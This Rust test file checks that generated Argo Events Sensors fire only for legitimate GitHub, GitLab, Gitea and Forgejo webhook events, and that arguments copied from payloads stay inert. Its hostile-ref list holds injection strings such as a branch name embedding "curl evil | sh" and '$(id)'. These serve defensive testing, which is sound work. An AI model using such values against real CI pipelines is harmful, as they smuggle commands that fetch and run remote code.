//! Replays webhook payloads against the generated Sensors' filters, evaluated like Argo
//! Events does (each `string` value is an RE2 regex, all filters of a dependency must pass):
//! legitimate pushes, tags and pull requests (GitHub's, GitLab's, and Gitea's and Forgejo's
//! GitHub-like ones) fire exactly one dependency, and hostile branch or tag names, other
//! repositories, forks and deleted branches fire none. Whatever a firing
//! dependency copies into a Workflow argument is then free of quotes, `{{` and `$(`, and the
//! arguments templated from the payload come out as Argo Events would print them (numbers of a
//! million and more included).

use super::support::{function, items};
use serde_json::{Value, json};

fn sensor() -> Value {
    let input = br#"apiVersion: config.kubernetes.io/v1
kind: ResourceList
items:
- apiVersion: pipewright.dev/v1alpha1
  kind: Pipeline
  metadata: {name: api, namespace: team}
  spec:
    repo: https://github.com/acme/api.git
    toolchain: go
    image: registry.acme.io/team/api
    triggers: {push: {branches: [main, release/*]}, tags: true, pullRequests: true}
"#;
    expand(input).into_iter().find(|o| o["kind"] == "Sensor").expect("a Sensor")
}

/// The objects pipewright makes of a valid input.
fn expand(input: &[u8]) -> Vec<Value> {
    let run = function(input);
    assert_eq!(run.code, 0, "{}", run.stderr);
    items(&run.stdout)
}

fn lookup<'a>(payload: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(payload, |v, key| v.get(key))
}

fn passes(filter: &Value, payload: &Value) -> bool {
    let Some(found) = lookup(payload, filter["path"].as_str().unwrap()) else { return false };
    let text = match found {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    filter["value"].as_array().unwrap().iter().any(|v| match filter["type"].as_str().unwrap() {
        "string" => regex::Regex::new(v.as_str().unwrap()).unwrap().is_match(&text),
        "bool" => text == v.as_str().unwrap(),
        other => panic!("unexpected filter type {other}"),
    })
}

/// The dependencies a payload fires.
fn fired(sensor: &Value, payload: &Value) -> Vec<String> {
    let deps = sensor["spec"]["dependencies"].as_array().unwrap();
    deps.iter()
        .filter(|d| d["filters"]["data"].as_array().unwrap().iter().all(|f| passes(f, payload)))
        .map(|d| d["name"].as_str().unwrap().to_owned())
        .collect()
}

fn push(reference: &str, repo: &str) -> Value {
    json!({"body": {"ref": reference, "after": "0123456789abcdef0123456789abcdef01234567", "deleted": false, "repository": {"full_name": repo}}})
}

/// Gitea's and Forgejo's push payload: GitHub's shape without `deleted`.
fn gitea_push(reference: &str, after: &str) -> Value {
    json!({"body": {"ref": reference, "before": ZERO, "after": after, "compare_url": "", "repository": {"full_name": "acme/api"}}})
}

const SHA: &str = "0123456789abcdef0123456789abcdef01234567";
const ZERO: &str = "0000000000000000000000000000000000000000";

fn pull_request(head_repo: &str, number: Value) -> Value {
    json!({"body": {"action": "synchronize", "number": number, "repository": {"full_name": "acme/api"},
        "pull_request": {"head": {"sha": "0123456789abcdef0123456789abcdef01234567", "repo": {"full_name": head_repo}}}}})
}

fn gitlab_merge_request(iid: Value) -> Value {
    json!({"body": {"object_kind": "merge_request", "project": {"path_with_namespace": "acme/api"},
        "object_attributes": {"action": "update", "iid": iid, "source": {"path_with_namespace": "acme/api"},
            "last_commit": {"id": "0123456789abcdef0123456789abcdef01234567"}}}})
}

fn gitlab_push(reference: &str) -> Value {
    json!({"body": {"object_kind": "push", "ref": reference, "checkout_sha": "0123456789abcdef0123456789abcdef01234567", "project": {"path_with_namespace": "acme/api"}}})
}

#[test]
fn legitimate_events_fire_exactly_one_dependency() {
    let s = sensor();
    assert_eq!(fired(&s, &push("refs/heads/main", "acme/api")), ["push"]);
    assert_eq!(fired(&s, &push("refs/heads/release/2.4", "Acme/API")), ["push"]);
    assert_eq!(fired(&s, &push("refs/tags/v1.2.3", "acme/api")), ["tag"]);
    assert_eq!(fired(&s, &push("refs/tags/1.2.3-rc.1", "acme/api")), ["tag"]);
    assert_eq!(fired(&s, &pull_request("acme/api", json!(42))), ["pull-request"]);
    assert_eq!(fired(&s, &gitlab_push("refs/heads/main")), ["gitlab-push"]);
    assert_eq!(fired(&s, &gitlab_merge_request(json!(7))), ["gitlab-merge-request"]);
}

/// Gitea and Forgejo send GitHub's shapes through the generic webhook, with no `deleted` field
/// and `synchronized` for a pull request's new commits.
#[test]
fn gitea_and_forgejo_events_fire_the_github_dependencies() {
    let s = sensor();
    assert_eq!(fired(&s, &gitea_push("refs/heads/main", SHA)), ["push"]);
    assert_eq!(fired(&s, &gitea_push("refs/tags/v1.2.3", SHA)), ["tag"]);
    for action in ["opened", "reopened", "synchronized"] {
        let mut pr = pull_request("acme/api", json!(42));
        pr["body"]["action"] = json!(action);
        assert_eq!(fired(&s, &pr), ["pull-request"], "{action}");
    }
    for action in ["closed", "edited", "synchronizedd", "label_updated"] {
        let mut pr = pull_request("acme/api", json!(42));
        pr["body"]["action"] = json!(action);
        assert!(fired(&s, &pr).is_empty(), "{action} fired");
    }
    assert!(fired(&s, &gitea_push("refs/heads/main", ZERO)).is_empty(), "a deleted Gitea branch fired");
    assert!(fired(&s, &gitea_push("refs/tags/v1.2.3", ZERO)).is_empty(), "a deleted Gitea tag fired");
}

#[test]
fn hostile_or_foreign_events_fire_nothing() {
    let s = sensor();
    let hostile_refs = [
        "refs/heads/main'; curl evil | sh; '",
        "refs/heads/release/{{workflow.name}}",
        "refs/heads/release/$(id)",
        "refs/heads/release/a\"b",
        "refs/heads/main\nrefs/heads/x",
        "refs/heads/release/a/b",
        "refs/heads/feature",
        "refs/tags/v1.2.3'$(id)",
        "refs/tags/v1.2.3+build",
        "refs/tags/latest",
        "refs/tags/v1.2",
    ];
    for r in hostile_refs {
        assert!(fired(&s, &push(r, "acme/api")).is_empty(), "{r:?} fired");
        assert!(fired(&s, &gitlab_push(r)).is_empty(), "gitlab {r:?} fired");
    }
    assert!(fired(&s, &push("refs/heads/main", "acme/api-fork")).is_empty(), "another repository fired");
    assert!(fired(&s, &push("refs/heads/main", "evil/acme/api")).is_empty(), "a lookalike repository fired");
    for reference in ["refs/heads/main", "refs/tags/v1.2.3"] {
        // GitHub's deletion: the zero SHA, and `deleted: true`.
        let mut deleted = push(reference, "acme/api");
        deleted["body"]["deleted"] = json!(true);
        deleted["body"]["after"] = json!(ZERO);
        assert!(fired(&s, &deleted).is_empty(), "deleting {reference} fired");
        let mut deleted = gitlab_push(reference);
        deleted["body"]["checkout_sha"] = Value::Null;
        deleted["body"]["after"] = json!(ZERO);
        assert!(fired(&s, &deleted).is_empty(), "deleting {reference} on GitLab fired");
    }
    assert!(fired(&s, &pull_request("mallory/api", json!(42))).is_empty(), "a fork's pull request fired");
    assert!(fired(&s, &pull_request("acme/api", json!("1}}{{x"))).is_empty(), "a forged PR number fired");
}

#[test]
fn arguments_taken_from_events_are_inert() {
    let s = sensor();
    for trigger in s["spec"]["triggers"].as_array().unwrap() {
        let workflow = &trigger["template"]["argoWorkflow"]["source"]["resource"];
        assert!(workflow["spec"].get("templates").is_none() && workflow["spec"]["workflowTemplateRef"]["name"] == "api");
        for p in trigger["template"]["argoWorkflow"]["parameters"].as_array().unwrap() {
            let dep = p["src"]["dependencyName"].as_str().unwrap();
            let filters =
                s["spec"]["dependencies"].as_array().unwrap().iter().find(|d| d["name"] == dep).unwrap()["filters"]["data"].clone();
            // Every payload field a parameter reads is pinned by an anchored filter on that field.
            let fields: Vec<String> = match (p["src"]["dataKey"].as_str(), p["src"]["dataTemplate"].as_str()) {
                (Some(key), _) => vec![key.to_owned()],
                (_, Some(t)) => t.split(".Input.").skip(1).map(|rest| rest.split([' ', '}']).next().unwrap().to_owned()).collect(),
                _ => panic!("a parameter with no source"),
            };
            for field in fields {
                let pinned = filters.as_array().unwrap().iter().any(|f| {
                    f["path"] == field.as_str()
                        && f["value"].as_array().unwrap().iter().all(|v| {
                            let v = v.as_str().unwrap().trim_start_matches("(?i)");
                            v.starts_with('^') && v.ends_with('$') && !v.contains(".*")
                        })
                });
                assert!(pinned, "dependency {dep}: argument from {field} is not pinned by an anchored filter");
            }
        }
    }
}

/// A JSON number as Go's `{{ }}` prints it: Argo Events decodes payload numbers as float64, and
/// `%v` of a float64 switches to an exponent from 1e6 on (`1e+06`, `1.234567e+06`).
fn go_float(n: f64) -> String {
    if n.fract() != 0.0 || n.abs() < 1e6 {
        return n.to_string();
    }
    let digits = format!("{}", n.abs() as u64);
    let mantissa = digits.trim_end_matches('0');
    let (head, tail) = mantissa.split_at(1);
    let sign = if n < 0.0 { "-" } else { "" };
    let dot = if tail.is_empty() { String::new() } else { format!(".{tail}") };
    format!("{sign}{head}{dot}e+{:02}", digits.len() - 1)
}

/// Evaluates a trigger parameter's `dataTemplate` the way Argo Events does, for the subset the
/// Sensors use: `.Input.<path>` piped through sprig's `int64`, `trimPrefix` and `replace`.
fn render_template(template: &str, input: &Value) -> String {
    let mut out = String::new();
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").expect("an unclosed action") + start;
        let mut stages = rest[start + 2..end].split('|').map(str::trim);
        let path = stages.next().unwrap().strip_prefix(".Input.").expect("an action reads .Input");
        let found = lookup(input, path).unwrap_or_else(|| panic!("{path} is not in the payload"));
        let mut value = match found {
            Value::String(s) => s.clone(),
            Value::Number(n) => go_float(n.as_f64().unwrap()),
            other => panic!("unexpected {other}"),
        };
        for stage in stages {
            let words: Vec<&str> = stage.split(' ').collect();
            let arg = |i: usize| words[i].trim_matches('"');
            value = match words[0] {
                "int64" => format!("{}", value.parse::<f64>().unwrap() as i64),
                "trimPrefix" => value.strip_prefix(arg(1)).unwrap_or(&value).to_owned(),
                "replace" => value.replace(arg(1), arg(2)),
                other => panic!("the test does not know {other}"),
            };
        }
        out.push_str(&value);
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

/// The `revision` and `concurrency_key` arguments a dependency's trigger submits for a payload.
fn arguments(sensor: &Value, dependency: &str, payload: &Value) -> (String, String) {
    let trigger = sensor["spec"]["triggers"].as_array().unwrap().iter().find(|t| t["template"]["name"] == dependency).unwrap();
    let params = trigger["template"]["argoWorkflow"]["parameters"].as_array().unwrap();
    let value = |dest: &str| {
        let src = &params.iter().find(|p| p["dest"] == dest).unwrap()["src"];
        match (src["dataKey"].as_str(), src["dataTemplate"].as_str()) {
            (Some(key), _) => lookup(payload, key).unwrap().as_str().unwrap().to_owned(),
            (_, Some(t)) => render_template(t, payload),
            _ => panic!("a parameter with no source"),
        }
    };
    (value("spec.arguments.parameters.0.value"), value("spec.arguments.parameters.2.value"))
}

#[test]
fn go_prints_large_floats_with_an_exponent() {
    assert_eq!(go_float(42.0), "42");
    assert_eq!(go_float(999_999.0), "999999");
    assert_eq!(go_float(1_000_000.0), "1e+06");
    assert_eq!(go_float(1_234_567.0), "1.234567e+06");
}

/// Pull and merge request numbers of a million and more stay integers in the ref and the key.
#[test]
fn large_request_numbers_are_printed_as_integers() {
    let s = sensor();
    for n in [42, 1_000_000, 1_234_567] {
        let pr = pull_request("acme/api", json!(n));
        assert_eq!(fired(&s, &pr), ["pull-request"]);
        assert_eq!(arguments(&s, "pull-request", &pr), (format!("refs/pull/{n}/head"), format!("pr.{n}")));
        let mr = gitlab_merge_request(json!(n));
        assert_eq!(fired(&s, &mr), ["gitlab-merge-request"]);
        assert_eq!(arguments(&s, "gitlab-merge-request", &mr), (format!("refs/merge-requests/{n}/head"), format!("mr.{n}")));
    }
    let push = push("refs/heads/release/2.4", "acme/api");
    assert_eq!(arguments(&s, "push", &push), ("refs/heads/release/2.4".to_owned(), "release.2.4".to_owned()));
}

/// The value a dependency's trigger submits for the workflow argument `name`, found by name in
/// the submitted Workflow and by index in the trigger's `dest`.
fn argument(sensor: &Value, dependency: &str, payload: &Value, name: &str) -> Option<String> {
    let trigger = sensor["spec"]["triggers"].as_array().unwrap().iter().find(|t| t["template"]["name"] == dependency).unwrap();
    let workflow = &trigger["template"]["argoWorkflow"]["source"]["resource"];
    let index = workflow["spec"]["arguments"]["parameters"].as_array().unwrap().iter().position(|p| p["name"] == name)?;
    let dest = format!("spec.arguments.parameters.{index}.value");
    let params = trigger["template"]["argoWorkflow"]["parameters"].as_array().unwrap();
    let src = &params.iter().find(|p| p["dest"] == dest.as_str())?["src"];
    Some(match (src["dataKey"].as_str(), src["dataTemplate"].as_str()) {
        (Some(key), _) => lookup(payload, key).unwrap().as_str().unwrap().to_owned(),
        (_, Some(t)) => render_template(t, payload),
        _ => panic!("a parameter with no source"),
    })
}

/// Every trigger passes the event's commit as the `commit` argument, so a run that waits behind
/// its branch's mutex still builds the pushed commit: GitHub's (and Gitea's and Forgejo's) `after`
/// and `pull_request.head.sha`, GitLab's `checkout_sha` and `object_attributes.last_commit.id`.
#[test]
fn every_trigger_passes_the_events_commit() {
    let s = sensor();
    let other = "fedcba9876543210fedcba9876543210fedcba98";
    let cases = [
        ("push", push("refs/heads/main", "acme/api"), "/body/after"),
        ("push", gitea_push("refs/heads/main", SHA), "/body/after"),
        ("tag", push("refs/tags/v1.2.3", "acme/api"), "/body/after"),
        ("pull-request", pull_request("acme/api", json!(42)), "/body/pull_request/head/sha"),
        ("gitlab-push", gitlab_push("refs/heads/main"), "/body/checkout_sha"),
        ("gitlab-tag", gitlab_push("refs/tags/v1.2.3"), "/body/checkout_sha"),
        ("gitlab-merge-request", gitlab_merge_request(json!(7)), "/body/object_attributes/last_commit/id"),
    ];
    for (dependency, mut payload, pointer) in cases {
        if dependency == "gitlab-tag" {
            payload["body"]["object_kind"] = json!("tag_push");
        }
        *payload.pointer_mut(pointer).unwrap() = json!(other);
        assert_eq!(fired(&s, &payload), [dependency]);
        assert_eq!(argument(&s, dependency, &payload, "commit").as_deref(), Some(other), "{dependency}: the commit argument");
    }
}

/// With organization webhooks every repository of the organization sends its events to the
/// namespace's EventSource, which lists the organizations (a shape Argo Events' schema
/// accepts); each Sensor still fires for its own pipeline's repository only.
#[test]
fn organization_webhooks_keep_the_repository_filters() {
    let input = br#"apiVersion: config.kubernetes.io/v1
kind: ResourceList
items:
- apiVersion: pipewright.dev/v1alpha1
  kind: Team
  metadata: {name: payments, namespace: team}
  spec:
    groups: [devs]
    events: {github: {webhookSecret: {name: gh, key: secret}, organizations: [acme]}}
- apiVersion: pipewright.dev/v1alpha1
  kind: Pipeline
  metadata: {name: api, namespace: team}
  spec:
    repo: https://github.com/acme/api.git
    toolchain: go
    image: registry.acme.io/team/api
    triggers: {push: {branches: [main]}, pullRequests: true}
"#;
    let objects = expand(input);
    let source = objects.iter().find(|o| o["kind"] == "EventSource").expect("an EventSource");
    let github = source["spec"]["github"].as_object().unwrap().values().next().unwrap();
    assert_eq!(github["organizations"], json!(["acme"]));
    assert!(github.get("repositories").is_none(), "{github}");
    if let Some(shared) = super::support::shared_argo() {
        let schema: Value = serde_json::from_slice(&std::fs::read(shared.join("schema/schema.json")).unwrap()).unwrap();
        let definition = &schema["definitions"]["github.com.argoproj.argo_events.pkg.apis.events.v1alpha1.GithubEventSource"];
        assert_eq!(definition["properties"]["organizations"]["items"]["type"], "string", "Argo Events' organizations field changed");
        let problems = super::events_checks::check(&shared, &objects);
        assert!(problems.is_empty(), "{}", problems.join("\n"));
    }
    let s = objects.iter().find(|o| o["kind"] == "Sensor").expect("a Sensor");
    assert_eq!(fired(s, &push("refs/heads/main", "acme/api")), ["push"]);
    assert_eq!(fired(s, &pull_request("acme/api", json!(7))), ["pull-request"]);
    for other in ["acme/billing", "acme/api-v2", "acme-labs/api"] {
        assert!(fired(s, &push("refs/heads/main", other)).is_empty(), "{other}'s push fired the api pipeline");
        let mut pr = pull_request(other, json!(7));
        pr["body"]["repository"]["full_name"] = json!(other);
        assert!(fired(s, &pr).is_empty(), "{other}'s pull request fired the api pipeline");
    }
}
